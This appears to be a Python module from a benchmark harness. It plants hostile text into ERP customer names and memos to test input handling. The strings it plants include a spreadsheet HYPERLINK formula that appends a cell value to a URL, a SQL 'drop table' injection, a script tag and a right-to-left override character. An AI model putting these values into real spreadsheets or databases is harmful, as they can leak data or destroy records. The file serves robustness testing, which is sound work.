"""Formulas, quotes and line breaks where people type names and memos."""

from __future__ import annotations

from benchmarks.planting.case import Case
from benchmarks.planting.situation import Aspect, Situation


def _plant(case: Case) -> None:
    text = case.draw.of(
        (
            '=HYPERLINK("http://example.com/?"&A1,"Pay")',
            "+1-1",
            "@SUM(A1)",
            'He said "void"\nthen left',
            "Robert'); drop table items;--",
            "a;b,c\t|",
            "\u202enoitcejni",
            "<script>x</script>",
        )
    )
    party = f"{text} {case.paper.party}"
    case.change_document(memo=f"{case.paper.memo} {text}".strip(), party=party)


hostile_text_in_erp = Situation(
    means="formulas and quotes in names and memos",
    kinds=(),
    plant=_plant,
    decides=frozenset({Aspect.ERP_CUSTOMER}),
    needs=frozenset({Aspect.ERP_ROW}),
)
